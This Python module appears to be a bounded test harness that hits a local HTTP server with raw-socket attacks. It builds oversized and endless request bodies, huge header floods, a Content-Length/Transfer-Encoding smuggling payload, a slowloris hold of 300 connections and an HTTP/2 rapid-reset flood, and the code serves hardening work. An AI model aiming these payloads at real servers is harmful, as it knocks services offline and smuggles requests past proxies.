"""Attacks on a server, by raw sockets. Each gives what the server answered, if anything.

All are bounded: so many connections, so many bytes, and a time limit on every wait.
"""

from __future__ import annotations

import contextlib
import socket
import struct

PATIENCE_S = 5.0
HOST = b"Host: localhost\r\n"
POST = b"POST /v1/streams HTTP/1.1\r\n" + HOST
HELD = 300
"""Connections of one slow attack."""
RESETS = 5_000
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_GET_HEALTH = b"\x82\x86\x04\x08/healthz\x01\x09localhost"
"""In HPACK: GET, http, a path, an authority."""


def connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=PATIENCE_S)


def exchange(port: int, data: bytes, then: bytes = b"", times: int = 0) -> bytes:
    """Sends, goes on sending as long as it is let, and reads what comes until the end."""
    got = b""
    with connect(port) as sock:
        with contextlib.suppress(OSError):
            sock.sendall(data)
            for _ in range(times):
                sock.sendall(then)
        with contextlib.suppress(OSError):
            sock.settimeout(0.5)
            while part := sock.recv(65536):
                got += part
    return got


def announced_body(port: int) -> bytes:
    """A gigabyte, and some of it."""
    head = POST + b"Content-Length: 1073741824\r\n\r\n"
    return exchange(port, head, b"x" * 65536, 64)


def endless_body(port: int) -> bytes:
    """Chunks for as long as they are taken, up to 64 MiB."""
    piece = b"10000\r\n" + b"x" * 65536 + b"\r\n"
    return exchange(port, POST + b"Transfer-Encoding: chunked\r\n\r\n", piece, 1024)


def long_header(port: int) -> bytes:
    return exchange(port, b"GET /healthz HTTP/1.1\r\n" + HOST + b"X: ", b"x" * 65536, 64)


def many_headers(port: int) -> bytes:
    lines = b"".join(b"X-%d: y\r\n" % number for number in range(1000))
    return exchange(port, b"GET /healthz HTTP/1.1\r\n" + HOST, lines, 20)


def smuggled(port: int) -> bytes:
    """Two lengths: whoever takes the shorter one finds a second request in the body."""
    hidden = b"GET /flows HTTP/1.1\r\n" + HOST + b"\r\n"
    body = b"0\r\n\r\n" + hidden
    lengths = b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(body)
    return exchange(port, POST + lengths + body)


def slow_heads(port: int) -> bytes:
    """Many connections that never finish asking."""
    with contextlib.ExitStack() as stack:
        socks = [stack.enter_context(connect(port)) for _ in range(HELD)]
        for piece in (b"GET /healthz HTTP/1.1\r\n", b"Host: loc", b"alhost\r\nX: "):
            for sock in socks:
                with contextlib.suppress(OSError):
                    sock.sendall(piece)
    return b""


def rapid_resets(port: int) -> bytes:
    """HTTP/2 streams, each reset as soon as it was opened."""
    opening = _PREFACE + _frame(4, 0, 0, b"")
    pairs = b"".join(
        _frame(1, 5, number, _GET_HEALTH) + _frame(3, 0, number, struct.pack(">I", 8))
        for number in range(1, 2 * RESETS, 2)
    )
    return exchange(port, opening, pairs[: len(pairs)], 1)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


ATTACKS = (
    announced_body,
    endless_body,
    long_header,
    many_headers,
    smuggled,
    slow_heads,
    rapid_resets,
)
